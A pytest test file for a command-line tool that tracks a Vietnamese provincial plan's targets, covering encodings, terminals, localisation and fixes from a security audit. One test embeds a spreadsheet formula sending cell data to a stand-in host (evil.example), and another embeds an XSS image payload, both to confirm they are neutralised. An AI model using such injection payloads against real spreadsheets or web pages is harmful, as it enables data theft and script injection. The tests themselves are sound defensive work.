"""The outside audit's defects, each reproduced through the real entry points on real files, and
what a first hour on Windows, in a narrow terminal or with odd settings needs to survive."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shlex
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import Run

ANSI = re.compile(r"\x1b\[")


def midterm(
    *args: str, cwd: Path | None = None, env: dict[str, str] | None = None, timeout: float = 60
) -> subprocess.CompletedProcess[bytes]:
    """The installed command in its own process, as a user (or a Windows redirect) runs it."""
    base = {k: v for k, v in os.environ.items() if not k.startswith(("MIDTERM_", "PYTHONIOENCODING"))}
    return subprocess.run(
        [sys.executable, "-m", "midterm", *args],
        cwd=cwd,
        env={**base, **(env or {})},
        capture_output=True,
        timeout=timeout,
    )


# ---------------------------------------------------------------- output that is not UTF-8


@pytest.mark.parametrize("encoding", ["cp1252", "ascii", "latin-1"])
@pytest.mark.parametrize(
    "args",
    [["status"], ["status", "-f", "json"], ["--help"], ["status", "--help"], ["show", "grdp-growth"], ["plans"]],
)
def test_no_command_crashes_on_the_outputs_encoding(encoding: str, args: list[str], plan: Path) -> None:
    result = midterm(*args, cwd=plan, env={"PYTHONIOENCODING": encoding})
    assert result.returncode == 0, result.stderr.decode(encoding, "replace")
    text = result.stdout.decode(encoding)  # what the stream can encode, and nothing else
    assert "Traceback" not in text and "UnicodeEncodeError" not in result.stderr.decode(encoding, "replace")
    if args == ["status"]:
        assert "Nghi quyet Dai hoi Dang bo tinh" in text  # Vietnamese without its marks, still readable


def test_an_error_message_on_a_narrow_encoding_reads_plainly(tmp_path: Path) -> None:
    result = midterm("status", "--data", str(tmp_path / "none"), env={"PYTHONIOENCODING": "ascii"})
    assert result.returncode == 2
    assert (
        result.stderr.decode("ascii")
        == f"midterm: {tmp_path / 'none' / 'targets.toml'}: khong co tep hay thu muc nay\n"
    )


def test_output_file_is_utf8_and_a_csv_gets_a_bom(run: Run, plan: Path) -> None:
    result = run("status", "-f", "csv", "--output", "out.csv", "--lang", "en")
    assert result.exit_code == 0 and result.stdout == ""
    assert result.stderr == "midterm: wrote out.csv\n"
    raw = (plan / "out.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads Vietnamese from a CSV with a BOM
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0]["indicator_name"] == "Average GRDP growth" and rows[0]["target_text"] == "9-10%/năm"
    assert not run("status", "-f", "csv").stdout.startswith("\ufeff")  # a pipe gets no BOM
    assert run("status", "-f", "json", "-o", "out.json").exit_code == 0
    assert json.loads((plan / "out.json").read_text(encoding="utf-8"))["plan"] == "binh-phuoc-xi"


# ---------------------------------------------------------------- terminals


def test_colour_follows_no_color_force_color_and_a_dumb_terminal(run: Run, plan: Path) -> None:
    assert not ANSI.search(run("status").stdout)  # not a terminal: no colour
    assert ANSI.search(run("status", env={"FORCE_COLOR": "1", "TERM": "xterm"}).stdout)
    assert ANSI.search(run("status", env={"FORCE_COLOR": "1", "TERM": "dumb"}).stdout)  # forced is forced
    assert not ANSI.search(run("status", env={"FORCE_COLOR": "1", "NO_COLOR": "1"}).stdout)
    assert not ANSI.search(run("status", "-o", "t.txt", env={"FORCE_COLOR": "1"}).stdout)
    assert not ANSI.search((plan / "t.txt").read_text(encoding="utf-8"))


def test_status_can_show_ids(run: Run, plan: Path) -> None:
    out = run("status", "--ids", "--lang", "en", env={"COLUMNS": "200"}).stdout
    assert "Average GRDP growth [grdp-growth]" in out and "[share-agriculture]" in " ".join(out.split())


def test_flags_read_as_flags_and_completion_can_be_installed(run: Run) -> None:
    for command in (["validate", "--help"], ["status", "--help"], ["--help"]):
        out = run(*command, "--lang", "en", env={"COLUMNS": "120"}).stdout
        assert "<bool>" not in out and "list[Path]" not in out, command
    assert "PATH..." in run("validate", "--help", "--lang", "en", env={"COLUMNS": "120"}).stdout
    assert "--install-completion" in run("--help", env={"COLUMNS": "120"}).stdout
    # --show-completion is a flag: typer finds the shell among the process's ancestors (shellingham),
    # not from its argument or $SHELL. Run straight from pytest, the test passed only when a shell
    # started pytest, and failed ("Shell  not supported.") when a scheduler or a detached runner
    # did: so the command runs under a bash of its own, which stays its parent.
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("no bash to run the completion under")
    script = f"{shlex.quote(sys.executable)} -m midterm --show-completion; true"
    shown = subprocess.run([bash, "-c", script], capture_output=True, timeout=60)
    assert shown.returncode == 0 and b"complete -o default -F _midterm_completion midterm" in shown.stdout, shown


def test_the_console_script_sees_every_command_when_none_is_named() -> None:
    # main() builds only the command a line names (start-up); a misspelt one, the help and shell
    # completion must still see them all
    typo = midterm("statu")
    assert typo.returncode == 2 and "'status'" in typo.stderr.decode()
    listed = midterm("--help", env={"COLUMNS": "120"}).stdout.decode()
    assert all(name in listed for name in ("status", "project", "backtest", "report", "init", "plans"))
    words = midterm(env={"_MIDTERM_COMPLETE": "complete_bash", "COMP_WORDS": "midterm ", "COMP_CWORD": "1"})
    assert words.stdout.decode().split() == [
        "status",
        "project",
        "show",
        "record",
        "validate",
        "init",
        "plans",
        "backtest",
        "report",
        "collect",
        "import",
    ]
    english = midterm("--lang", "en", "project", "--format", "json")
    assert english.returncode == 0 and json.loads(english.stdout)["language"] == "en"


def test_one_language_at_a_time(run: Run, plan: Path) -> None:
    assert "Cách dùng: midterm status" in run("status", "--help").stdout
    english = run("--lang", "en", "status", "--help").stdout
    assert "Usage: midterm status" in english and "Every indicator and its metrics" in english
    assert "the report says" in run("--lang", "en", "status").stdout.replace("\n", " ")
    bad = run("status", env={"MIDTERM_LANG": "fr"})
    assert (bad.exit_code, bad.stderr) == (
        2,
        "midterm: MIDTERM_LANG=fr không phải ngôn ngữ midterm dùng được: vi hoặc en\n",
    )
    wrong = run("status", "--lang", "fr")
    assert wrong.exit_code == 2 and wrong.stderr.count("\n") == 1
    assert run("status", "--formt", "json").stderr == (
        "midterm: không có tùy chọn --formt (có phải: --format?) (xem 'midterm status --help')\n"
    )


def test_every_help_text_has_its_vietnamese() -> None:
    from typer.main import get_command

    from midterm.cli import app
    from midterm.words.help import HELP_VI

    def texts(command: object) -> list[str]:
        out = [getattr(command, "help", None)]
        out += [getattr(p, "help", None) for p in getattr(command, "params", [])]
        for sub in getattr(command, "commands", {}).values():
            out += texts(sub)
        return [" ".join(text.split()) for text in out if text]

    missing = [text for text in texts(get_command(app)) if text not in HELP_VI]
    assert missing == []


# ---------------------------------------------------------------- the audit's defects


REPORT = "Báo cáo tình hình kinh tế - xã hội năm"


def test_workers_die_with_their_parent(tmp_path: Path) -> None:
    """A plan over the size where parsing goes to worker processes; the main process is killed
    while they work: none of them is left running."""
    if not sys.platform.startswith("linux"):
        pytest.skip("reads /proc")
    folder = tmp_path / "big"
    (folder / "actuals").mkdir(parents=True)
    metrics = 3500
    lines = ['[plan]\nid = "big"\nname = "big"\nbaseline_year = 2020\nend_year = 2025\n']
    for k in range(metrics):
        if k % 5 == 0:
            lines.append(f'\n[[indicators]]\nid = "i{k}"\nno = {k}\nname = "Chỉ tiêu {k}"\n')
        metric = f'id = "m{k}"\n  name = "Chỉ số {k}"\n  unit = "đơn vị"\n  kind = "level"\n'
        lines.append(f'\n  [[indicators.metrics]]\n  {metric}  direction = "up"\n  target = 200\n')
    (folder / "targets.toml").write_text("".join(lines), encoding="utf-8")
    for year in range(2020, 2026):
        body = "".join(
            f'\n[m{k}]\nvalue = {100 + k % 50 + year - 2020}\nsource = "{REPORT} {year}, biểu {k}, trang {k % 90}"\n'
            for k in range(metrics)
        )
        (folder / "actuals" / f"{year}.toml").write_text(f"year = {year}\n{body}", encoding="utf-8")
    assert sum(p.stat().st_size for p in (folder / "actuals").glob("*.toml")) > 2_000_000
    env = {**os.environ, "MIDTERM_WORKERS": "2"}
    process = subprocess.Popen(
        [sys.executable, "-m", "midterm", "status", "-f", "json", "--data", str(folder)],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )

    def children() -> list[int]:
        found = []
        for stat in Path("/proc").glob("[0-9]*/stat"):
            try:
                fields = stat.read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == process.pid:
                found.append(int(stat.parent.name))
        return found

    deadline = time.monotonic() + 30
    while not children() and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)
    workers = children()
    if not workers:
        process.communicate()
        pytest.skip("the run finished before its workers could be seen")
    process.send_signal(signal.SIGKILL)
    process.communicate(timeout=30)
    deadline = time.monotonic() + 5
    alive = workers
    while alive and time.monotonic() < deadline:
        alive = [
            pid
            for pid in alive
            if Path(f"/proc/{pid}").exists()
            and "Z" not in Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        ]
        time.sleep(0.05)
    assert alive == [], "workers outlived their killed parent"


def test_data_that_validates_always_scores(run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Flows of 1e50, then 30,000, then 1 make the compound rate round to -1; with a gap year
    a method once raised 0.0 to a negative power. Now: n/a with a reason, exit 0."""
    folder = tmp_path / "plan"
    (folder / "actuals").mkdir(parents=True)
    (folder / "targets.toml").write_text(
        '[plan]\nid = "p"\nname = "p"\nbaseline_year = 2020\nend_year = 2025\n\n'
        '[[indicators]]\nid = "i"\nno = 1\nname = "i"\n\n'
        '  [[indicators.metrics]]\n  id = "flows"\n  name = "flows"\n  unit = "x"\n  kind = "cumulative"\n'
        '  direction = "up"\n  target = 100\n\n'
        '  [[indicators.metrics]]\n  id = "level"\n  name = "level"\n  unit = "x"\n'
        '  kind = "level"\n  direction = "up"\n  target = 100\n',
        encoding="utf-8",
    )
    for year, value in ((2021, 1e50), (2022, 30000), (2023, 1), (2025, 5)):
        (folder / "actuals" / f"{year}.toml").write_text(
            f'year = {year}\n\n[flows]\nvalue = {value}\nsource = "s"\n\n[level]\nvalue = {value}\nsource = "s"\n',
            "utf-8",
        )
    monkeypatch.chdir(folder)
    assert run("validate").exit_code == 0
    for args in (
        ["status", "-f", "json"],
        ["status"],
        ["project", "--year", "2024"],
        ["show", "i"],
        ["backtest", "--as-of", "2022", "-f", "json"],
    ):
        for extra in ([], ["--as-of", "2023"], ["--method", "cagr"]):
            if args[0] == "backtest" and extra and extra[0] == "--as-of":
                continue
            result = run(*args, *extra, "--lang", "en")
            assert result.exit_code == 0, (args, extra, result.output)
            assert "internal error" not in result.output
    doc = json.loads(run("status", "-f", "json", "--as-of", "2023", "--method", "cagr", "--lang", "en").stdout)
    level = next(m for i in doc["indicators"] for m in i["metrics"] if m["id"] == "level")
    assert level["by_method"]["cagr"] == {"projected": None, "verdict": "n/a", "bounded": False, "range": None}


def test_spreadsheet_formulas_in_names_are_inert(run: Run, plan: Path) -> None:
    targets = plan / "targets.toml"
    evil = '=HYPERLINK(""http://evil.example/?""&A1,""PCI"")'.replace('""', '\\"')
    targets.write_text(
        targets.read_text(encoding="utf-8").replace('name = "Thu ngân sách"', f'name = "{evil}"', 1), "utf-8"
    )
    rows = list(csv.reader(io.StringIO(run("status", "-f", "csv").stdout)))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"PCI")' in cells
    numbers = [row[rows[0].index("projected")] for row in rows[1:]]
    assert any(n.startswith("-") or n.replace(".", "").isdigit() for n in numbers if n)  # numbers stay numbers


def test_bidirectional_overrides_and_line_separators_are_escaped(run: Run, plan: Path) -> None:
    targets = plan / "targets.toml"
    name = "Thu \\u202eabc\\u2028row \\u2066x\\u2069 <img src=x onerror=alert(1)>"
    targets.write_text(
        targets.read_text(encoding="utf-8").replace('name = "Thu ngân sách"', f'name = "{name}"', 1), "utf-8"
    )
    for args in (["status"], ["status", "-f", "markdown"], ["show", "budget-revenue"]):
        out = run(*args, env={"COLUMNS": "200"}).stdout
        for char in ("\u202e", "\u2028", "\u2066", "\u2069"):
            assert char not in out, (args, char)
        assert "\\u202eabc\\u2028row" in out.replace("\\\\", "\\"), args
    markdown = run("status", "-f", "markdown").stdout
    assert "<img" not in markdown and "&lt;img src=x onerror=alert(1)&gt;" in markdown


def test_a_huge_name_is_cut_when_shown(run: Run, plan: Path) -> None:
    targets = plan / "targets.toml"
    targets.write_text(
        targets.read_text(encoding="utf-8").replace('name = "Thu ngân sách"', f'name = "{"x" * 3_000_000}"', 1), "utf-8"
    )
    out = run("status", env={"COLUMNS": "200"}).stdout
    assert "(+2,998,000 characters)" in " ".join(out.split())
    assert len(out) < 200_000


def test_a_fifo_named_like_a_year_file_is_refused_at_once(plan: Path) -> None:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs here")
    (plan / "actuals" / "2025.toml").unlink()  # the name is taken by a pipe instead
    os.mkfifo(plan / "actuals" / "2025.toml")
    result = midterm("status", "--lang", "en", cwd=plan, timeout=30)
    assert result.returncode == 1
    assert result.stderr.decode().startswith("actuals/2025.toml: error: is not a regular file")


def test_a_file_too_large_is_refused_and_many_problems_are_counted(
    run: Run, plan: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from midterm import files

    limit = files.MAX_BYTES
    monkeypatch.setattr(files, "MAX_BYTES", 2000)
    result = run("validate", "--lang", "en")
    assert result.exit_code == 1
    size = (plan / "actuals" / "2023.toml").stat().st_size
    expected = f"actuals/2023.toml: error: is {size:,} bytes, more than the 2,000 bytes a plan's file can be"
    assert expected in result.stdout
    monkeypatch.setattr(files, "MAX_BYTES", limit)
    unknown = "".join(f'\n[nope{k}]\nvalue = 1\nsource = "s"\n' for k in range(150))
    (plan / "actuals" / "2024.toml").write_text("year = 2024\n" + unknown, encoding="utf-8")
    lines = run("validate", "--lang", "en").stdout.splitlines()
    assert len(lines) == 101
    assert lines[-1] == "actuals/2024.toml: 50 more problems not shown (--format json lists them all)"
    assert len(json.loads(run("validate", "-f", "json").stdout)["errors"]) >= 150
